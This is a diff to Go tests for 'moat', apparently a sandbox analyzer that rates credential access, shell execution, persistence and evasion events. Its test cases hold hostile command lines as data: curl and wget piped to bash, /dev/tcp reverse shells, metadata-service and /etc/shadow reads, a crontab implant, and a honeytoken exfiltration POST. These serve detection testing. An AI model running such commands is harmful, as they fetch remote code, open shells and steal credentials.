@@ -17,6 +17,7 @@ const secret = "Q7hZk2mVfP9xLr4TnW8bYc3JdS6gHa1Ee5uKo0Ri"
 
 func TestAnalyze(t *testing.T) {
 	tok := planted("aws-secret-access-key", secret, "/home/sandbox/.aws/credentials")
+	netrc := planted("netrc-password", "n3trcS3cretValue0000", "/home/sandbox/.netrc")
 	cases := []struct {
 		name string
 		evs  []moat.Event
@@ -24,9 +25,55 @@ func TestAnalyze(t *testing.T) {
 		sev  moat.Severity // "" means: no finding of cat at all
 	}{
 		{"honeytoken read", []moat.Event{tok, {Source: "audit", Kind: "open", Path: "/home/sandbox/.aws/credentials", PID: 3}}, moat.CategoryCredentialAccess, "high"},
+		{"netrc read alone (requests, pip)", []moat.Event{netrc, {Source: "audit", Kind: "open", Path: "/home/sandbox/.netrc", PID: 3}}, moat.CategoryCredentialAccess, "low"},
+		{"netrc read in a sweep", []moat.Event{netrc, tok, {Source: "audit", Kind: "open", Path: "/home/sandbox/.netrc", PID: 3},
+			{Source: "audit", Kind: "open", Path: "/home/sandbox/.aws/credentials", PID: 3}}, moat.CategoryCredentialAccess, "high"},
 		{"token sent by the network sink", []moat.Event{tok, {Source: "network", Kind: "http", Addr: "1.2.3.4:80", Data: "POST /x\r\n\r\nk=" + secret}}, moat.CategoryExfiltration, "critical"},
 		{"token in a file written", []moat.Event{tok, {Source: "fs", Kind: "honeytoken-written", Path: "/work/x", Name: "aws-secret-access-key", Detail: "hex"}}, moat.CategoryExfiltration, "critical"},
-		{"shell", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/bash", PID: 4}}, moat.CategoryExecution, "high"},
+		{"shell reading stdin", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/bash", PID: 4}}, moat.CategoryExecution, "medium"},
+		{"interactive shell", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/bash", Detail: "bash -i", PID: 4}}, moat.CategoryExecution, "high"},
+		{"a test that runs echo", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c echo hello", PID: 4}}, moat.CategoryExecution, "low"},
+		{"curl piped to a shell", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c curl -A O -o- -L http://39.107.154.72/env | bash -s", PID: 4}}, moat.CategoryExecution, "critical"},
+		{"wget -O- piped to bash", []moat.Event{{Source: "audit", Kind: "exec", Path: "/bin/sh", Detail: "sh -c wget -q -O- http://x.example/a|bash", PID: 4}}, moat.CategoryExecution, "critical"},
+		{"base64 piped to bash", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c echo aWQK|base64 -d|bash", PID: 4}}, moat.CategoryExecution, "high"},
+		{"/dev/tcp", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/bash", Detail: "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", PID: 4}}, moat.CategoryExecution, "critical"},
+		{"shell with stdio on a socket", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh", Stdio: "0,1,2", PID: 4}}, moat.CategoryExecution, "critical"},
+		{"connect in the parent, shell in the child", []moat.Event{
+			{Source: "kernel", Kind: "connect", Addr: "13.93.28.37:8888", PID: 7, TimeMS: 1},
+			{Source: "kernel", Kind: "exec", Path: "/bin/bash", Detail: "/bin/bash", PID: 8, PPID: 7, TimeMS: 3}}, moat.CategoryExecution, "critical"},
+		{"connect in an unrelated process", []moat.Event{
+			{Source: "kernel", Kind: "connect", Addr: "13.93.28.37:8888", PID: 7, TimeMS: 1},
+			{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c ls", PID: 8, PPID: 2, TimeMS: 3}}, moat.CategoryExecution, "low"},
+		{"metadata service in a command", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/usr/bin/curl", Detail: "curl http://169.254.169.254/latest/meta-data/", PID: 4}}, moat.CategoryCredentialAccess, "high"},
+		{"metadata service connect", []moat.Event{{Source: "kernel", Kind: "connect", Addr: "169.254.169.254:80", PID: 4}}, moat.CategoryCredentialAccess, "high"},
+		{"metadata name looked up", []moat.Event{{Source: "audit", Kind: "dns", Name: "metadata.google.internal", PID: 4}}, moat.CategoryCredentialAccess, "high"},
+		{"cat /etc/shadow", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/cat", Detail: "cat /etc/shadow", PID: 4}}, moat.CategoryCredentialAccess, "high"},
+		{"cat ~/.aws/credentials in a shell", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c cat ~/.aws/credentials", PID: 4}}, moat.CategoryCredentialAccess, "high"},
+		{"crontab", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c echo '* * * * * python x' | crontab -", PID: 4}}, moat.CategoryPersistence, "high"},
+		{"pip's probes are not findings", []moat.Event{
+			{Source: "audit", Kind: "exec", Path: "lsb_release", Detail: "lsb_release -a", PID: 10},
+			{Source: "kernel", Kind: "exec", Path: "/usr/bin/lsb_release", Detail: "lsb_release -a", PID: 11, PPID: 10},
+			{Source: "kernel", Kind: "exec", Path: "/usr/bin/getopt", Detail: "getopt --name lsb_release -o hvidrcas -- -a", PID: 12, PPID: 11},
+			{Source: "kernel", Kind: "exec", Path: "/usr/bin/uname", Detail: "uname -rs", PID: 13, PPID: 10},
+			{Source: "kernel", Kind: "exec", Path: "/usr/bin/cut", Detail: "cut -c1", PID: 15, PPID: 14, Ancestors: "11,10"}}, moat.CategoryExecution, ""},
+		{"a probe put first on PATH is the program's", []moat.Event{
+			{Source: "kernel", Kind: "exec", Path: "/work/.venv/bin/lsb_release", Detail: "lsb_release -a", PID: 11, PPID: 10},
+			{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c cat /etc/shadow", PID: 12, PPID: 11}}, moat.CategoryExecution, "high"},
+		{"moat's launcher is not a finding", []moat.Event{
+			{Source: "moat", Kind: "exec", Path: "/usr/bin/sh", Detail: "moat's launcher: /usr/bin/sh -c sh -i", PID: 2},
+			{Source: "audit", Kind: "exec", Path: "/usr/bin/sh", Detail: "/usr/bin/sh -c sh -i", PID: 2}}, moat.CategoryExecution, ""},
+		{"a binary named python that is not the interpreter", []moat.Event{
+			{Source: "moat", Kind: "interpreter", Path: "/usr/bin/python3.11", SHA256: "aa"},
+			{Source: "kernel", Kind: "exec", Path: "/usr/local/bin/python3", SHA256: "bb", PID: 4}}, moat.CategoryExecution, "low"},
+		{"the interpreter by its hash", []moat.Event{
+			{Source: "moat", Kind: "interpreter", Path: "/usr/bin/python3.11", SHA256: "aa"},
+			{Source: "kernel", Kind: "exec", Path: "/work/.venv/bin/python", SHA256: "aa", PID: 4}}, moat.CategoryExecution, ""},
+		{"a dropped binary named python", []moat.Event{
+			{Source: "moat", Kind: "interpreter", Path: "/usr/bin/python3.11", SHA256: "aa"},
+			{Source: "kernel", Kind: "exec", Path: "/tmp/python3", SHA256: "cc", PID: 4}}, moat.CategoryExecution, "high"},
+		{"kernel events dropped", []moat.Event{{Source: "moat", Kind: "events", Name: "kernel", Detail: "exec-failed 5000"}}, moat.CategoryEvasion, "medium"},
+		{"a flood of failing execs", floodFailed(60), moat.CategoryEvasion, "medium"},
+		{"a PATH search", floodFailed(3), moat.CategoryEvasion, ""},
 		{"python child is fine", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/usr/bin/python3", PID: 4}}, moat.CategoryExecution, ""},
 		{"loopback is fine", []moat.Event{{Source: "kernel", Kind: "connect", Addr: "127.0.0.1:8080", PID: 4}}, moat.CategoryNetwork, ""},
 		{"pth without code", []moat.Event{{Source: "fs", Kind: "file-created", Path: "/work/v/x.pth", Data: "/some/dir"}}, moat.CategoryPersistence, ""},
@@ -180,4 +227,33 @@ func FuzzAnalyze(f *testing.F) {
 			}
 		}
 	})
+}
+
+func floodFailed(n int) []moat.Event {
+	var evs []moat.Event
+	for i := 0; i < n; i++ {
+		evs = append(evs, moat.Event{Source: "kernel", Kind: "exec-failed", Path: "/nonexistent", PID: 4, TimeMS: int64(i)})
+	}
+	return evs
+}
+
+// Every command line is judged, none deduplicated: the third shell
+// command of a run is reported as the first is.
+func TestEveryCommand(t *testing.T) {
+	fs := Analyze([]moat.Event{
+		{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c echo hi", PID: 4, TimeMS: 1},
+		{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c id", PID: 5, TimeMS: 2},
+		{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c curl -s http://169.254.169.254/latest/meta-data/iam/", PID: 6, TimeMS: 3},
+		{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c cat /etc/shadow", PID: 7, TimeMS: 4},
+		{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", PID: 8, TimeMS: 5},
+	})
+	var all strings.Builder
+	for _, f := range fs {
+		all.WriteString(string(f.Severity) + " " + f.Summary + "\n")
+	}
+	for _, want := range []string{"169.254.169.254", "/etc/shadow", "/dev/tcp/203.0.113.9", "echo hi", "2 commands"} {
+		if !strings.Contains(all.String(), want) {
+			t.Errorf("no finding names %q:\n%s", want, all.String())
+		}
+	}
 }
